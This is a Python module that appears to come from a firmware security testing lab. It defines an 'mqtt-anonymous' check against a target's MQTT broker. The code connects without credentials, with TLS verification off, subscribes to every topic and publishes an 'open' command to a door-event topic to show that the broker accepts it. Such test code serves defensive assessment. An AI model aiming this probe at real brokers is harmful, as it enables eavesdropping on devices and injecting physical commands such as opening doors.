"""A broker that lets anybody listen and speak."""

import ssl

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means import mqtt, network
from firmward.lab.means.line import Line, unverified
from firmward.lab.target import Powered, Target, Witness

PLAIN, SECURED = 1883, 8883
TOPIC = "event/door"


def run(target: Target) -> Result:
    return network.attacked(target, ATTACK, _strike)


def _strike(powered: Powered) -> bool:
    return _speaks(powered, PLAIN) or _speaks(powered, SECURED, unverified())


def _speaks(powered: Powered, port: int, tls: ssl.SSLContext | None = None) -> bool:
    """Whether a message of his comes to whoever listens, which here is he himself."""
    message = f"open {powered.target.challenge.first}".encode()
    try:
        with Line(powered.address(port), tls=tls) as line:
            line.send(mqtt.connect("visitor"))
            if not line.until(lambda said: len(said) >= mqtt.ANSWER) or not mqtt.is_let_in(line.said):
                return False
            line.send(mqtt.subscribe("#") + mqtt.publish(TOPIC, message))
            if not line.until(lambda said: message in said):
                return False
    except OSError:
        return False
    powered.target.note(Witness.NETWORK, f"the broker at port {port} handed his message to all who listen to {TOPIC}")
    return True


ATTACK = Attack(
    id="mqtt-anonymous",
    title="Orders to a broker without a password",
    does="connects to the broker without a name, listens to all topics, and publishes an event of his own",
    position=Position.NETWORK,
    link=RUNNING,
    case="Maggi, Vosseler, Quarta: The Fragility of Industrial IoT's Data Backbone, Trend Micro 2018",
    foretold=("mqtt-anonymous",),
    run=run,
    within=120.0,
    ports=(PLAIN, SECURED),
)
